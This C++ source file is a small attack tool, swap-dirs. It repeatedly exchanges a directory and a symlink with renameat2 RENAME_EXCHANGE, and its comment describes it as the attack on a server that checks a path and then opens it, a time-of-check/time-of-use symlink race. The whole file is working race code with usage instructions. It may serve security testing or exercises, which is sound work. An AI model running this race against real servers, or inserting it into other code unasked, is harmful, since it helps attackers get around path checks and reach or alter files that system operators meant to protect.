// swap-dirs: exchanges two names (renameat2 RENAME_EXCHANGE) over and over
// until killed, the attack on a server that checks a name, then opens it.
//
// usage: swap-dirs A B   (A a directory, B a symlink leading elsewhere)
// Exits 1 with a message if the first exchange fails; runs until a signal.
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char** argv) {
  if (argc != 3) {
    std::fputs("usage: swap-dirs A B\n", stderr);
    return 1;
  }
  if (::renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
    std::fprintf(stderr, "swap-dirs: %s <-> %s: %s\n", argv[1], argv[2], std::strerror(errno));
    return 1;
  }
  for (;;) ::renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
